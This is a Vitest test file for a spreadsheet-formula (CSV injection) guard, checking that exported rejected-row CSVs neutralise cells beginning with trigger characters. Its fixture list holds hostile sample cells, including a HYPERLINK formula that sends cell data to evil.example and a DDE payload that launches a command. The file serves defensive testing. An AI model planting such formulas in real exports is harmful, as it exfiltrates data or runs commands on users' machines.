import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { rejectedRowsCsv } from '../../../src/data/import/rejected-rows-csv.js';
import { FORMULA_TRIGGERS, spreadsheetSafeCell } from '../../../src/shared/spreadsheet-safe-cell.js';
import { toCsv } from '../../../src/web/csv.js';

// Cells an attacker could put in an uploaded file, hoping the rejected-rows download runs them.
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Fix")', '+cmd|\' /C calc\'!A0', '=1+1', '-3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('spreadsheetSafeCell', () => {
  it.each(FORMULAS)('marks %j as text with a leading apostrophe', (value) => {
    expect(spreadsheetSafeCell(value)).toBe(`'${value}`);
  });

  it('covers every trigger character and leaves other cells alone', () => {
    expect(FORMULA_TRIGGERS.map((trigger) => spreadsheetSafeCell(`${trigger}x`))).toEqual(FORMULA_TRIGGERS.map((trigger) => `'${trigger}x`));
    for (const value of ['R-1', 'P1', '03/04/2026', 'a=b', ' =1', "'=1", '', 'mini-review']) expect(spreadsheetSafeCell(value)).toBe(value);
  });
});

describe('the web page’s rejected-rows download', () => {
  it('writes no cell a spreadsheet would run, and quotes as before', () => {
    const csv = toCsv([['id', 'errors'], ...FORMULAS.map((value) => [value, 'bad'])]);
    const cells = (parse(csv, { relax_quotes: false }) as string[][]).slice(1).map((row) => row[0]!);
    expect(cells).toEqual(FORMULAS.map((value) => `'${value}`));
    expect(toCsv([['id', 'errors'], ['R-1', 'row 3, column x: "31/02" is not a date']])).toBe('id,errors\r\nR-1,"row 3, column x: ""31/02"" is not a date"\r\n');
  });
});

describe('the CLI’s <file>.rejected.csv', () => {
  it('writes no cell a spreadsheet would run, and reads back as the rows otherwise', () => {
    const rows = [['id', 'name', 'errors'], ...FORMULAS.map((value, index) => [`S${index}`, value, 'services.csv row 2: bad'])];
    const parsed = parse(rejectedRowsCsv(rows)) as string[][];
    expect(parsed.slice(1).map((row) => row[1])).toEqual(FORMULAS.map((value) => `'${value}`));
    expect(parsed.flat().filter((cell) => FORMULA_TRIGGERS.some((trigger) => cell.startsWith(trigger)))).toEqual([]);
    expect(parsed[0]).toEqual(['id', 'name', 'errors']);
    expect(parsed.slice(1).map((row) => row[0])).toEqual(FORMULAS.map((_, index) => `S${index}`));
  });
});
